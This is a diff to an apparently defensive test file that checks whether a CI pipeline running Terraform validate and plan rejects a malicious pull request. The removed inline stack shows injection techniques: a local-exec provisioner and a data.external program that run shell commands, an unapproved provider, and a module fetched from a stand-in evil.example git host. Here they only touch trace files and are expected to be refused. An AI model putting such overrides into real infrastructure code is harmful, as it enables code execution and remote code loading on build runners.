@@ -9,6 +9,7 @@ import { readAction } from "./github/workflow.js";
 import { Machines } from "./machine.js";
 import { pullRequest } from "./github/events.js";
 import { ProductRepository } from "./product.js";
+import { programsStack, refusals } from "./programs.js";
 import { runScript } from "./run-step.js";
 
 const canary = "canary-1c9d7e5b3a";
@@ -57,33 +58,12 @@ describe("a malicious pull request", { timeout: 300_000 }, () => {
 
   it("starts no program, and gets no provider and no module that nobody allowed", async () => {
     await product.branch("programs", () => {
-      product.write(
-        "stacks/network/index.js",
-        `const { defineStack, DataResource } = require("@infra/core");
-const { z } = require("zod");
-module.exports = defineStack({
-  config: z.strictObject({ cidr: z.string() }),
-  build(stack) {
-    const data = new DataResource(stack, "data", {});
-    data.addOverride("provisioner", [{ "local-exec": { command: "touch ${trace}-5" } }]);
-    stack.addOverride("data.external.run", { program: ["touch", "${trace}-6"] });
-    stack.addOverride("terraform.required_providers.evil", { source: "registry.opentofu.org/evil/evil" });
-    stack.addOverride("module.m", { source: "git::https://evil.example/m.git" });
-    return {};
-  },
-});
-`,
-      );
+      product.write("stacks/network/index.js", programsStack(trace));
     });
     const jobs = await offer("programs", ["validate", "plan"]);
     for (const name of ["validate", "plan"]) {
       expect(jobs[name]?.result).toBe("failure");
-      expect(jobs[name]?.output).toMatch(/terraform_data\.data has a provisioner \(local-exec\)/);
-      expect(jobs[name]?.output).toMatch(
-        /data\.external\.run needs the provider registry\.opentofu\.org\/hashicorp\/external/,
-      );
-      expect(jobs[name]?.output).toMatch(/registry\.opentofu\.org\/evil\/evil, which this product does not allow/);
-      expect(jobs[name]?.output).toMatch(/module\.m is a module of Terraform, from git::https:/);
+      for (const refusal of refusals) expect(jobs[name]?.output).toMatch(refusal);
     }
     expect(await traces()).toEqual([]);
   });
